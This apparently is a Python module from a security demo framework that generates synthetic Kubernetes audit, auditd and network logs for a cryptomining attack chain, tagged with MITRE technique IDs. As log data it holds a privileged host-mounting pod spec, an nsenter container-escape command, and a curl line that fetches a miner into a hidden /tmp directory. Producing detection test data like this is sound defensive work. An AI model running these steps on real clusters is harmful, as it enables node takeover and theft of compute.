"""Attack: a leaked service account starts a container with the node's disk, and the node begins to mine."""

from __future__ import annotations

import random
from functools import partial

from demo import cloud, eve, syslog
from demo.background.scene import SENSORS, session
from demo.chains.captures import capture
from demo.chains.chain import LOOT, Chain
from demo.city import City, Host
from demo.plan import Planned, Route

POOL = "203.0.113.90"
"""Where the mining pool would be (RFC 5737)."""
HIDDEN = "/" + "tmp/.x"
ACCOUNT = "system:serviceaccount:portal:default"


def mining(city: City, rng: random.Random) -> list[Planned]:
    """About 45 seconds."""
    chain = Chain("mining")
    node = rng.choice(city.of("node"))
    _start_container(chain, node)
    _fetch_miner(chain, node)
    _mine(chain, city, node)
    return chain.records


def _start_container(chain: Chain, node: Host) -> None:
    chain.step("starts a container with the node's disk", 0, node, "T1610")
    told = partial(cloud.kubernetes, user=ACCOUNT, source=node.ip, namespace="portal", agent="curl/7.88.1")
    chain.send(Route.JSON, partial(told, verb="list", resource="secrets", name="", code=403))
    pod = {
        "spec": {
            "hostPID": True,
            "containers": [{"name": "w", "image": "alpine", "securityContext": {"privileged": True}}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
        }
    }
    chain.send(
        Route.JSON, partial(told, verb="create", resource="pods", name="sys-w1", code=201, request=pod), "pod_takes_node", gap=3.0
    )
    chain.send(Route.JSON, partial(told, verb="create", resource="pods", name="sys-w1", subresource="exec", code=101))
    out = ("nsenter", "--target", "1", "--mount", "--pid", "sh")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=node.name, serial=51_010, arguments=out), "container_escape_command")


def _fetch_miner(chain: Chain, node: Host) -> None:
    chain.step("fetches a miner", 5, node, "T1105")
    words = ("curl", "-s", "-o", HIDDEN + "/kworker", f"http://{LOOT}:8080/m/kworker")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=node.name, serial=51_020, arguments=words), "auditd_download_to_tmp")
    way = (node.ip, 44_020, LOOT, 8080)
    chain.send(*session("USG-EDGE-02", way, ("trust", "untrust"))[1:], "crossing_denied")


def _mine(chain: Chain, city: City, node: Host) -> None:
    chain.step("mines", 6, node, "T1496.001")
    ask = partial(eve.dns, sensor=SENSORS["operations"], source=node.ip, server=city.named("ops-dns-01").ip, port=44_101)
    chain.send(Route.JSON, partial(ask, name="xmr.pool.example", kind="A"), "dns_mining_pool")
    mirror = partial(capture, kind="miner", node=node.ip, pool=(POOL, 3333))
    chain.send(Route.PCAP, mirror, "crossing_denied", "miner_on_wire")
    for number in range(3):
        work = partial(
            eve.flow, sensor=SENSORS[node.zone], flow=(node.ip, 44_200 + number, POOL, 3333), sent=9_000, received=21_000
        )
        chain.send(Route.JSON, partial(work, seconds=8), "crossing_denied", gap=5.0)
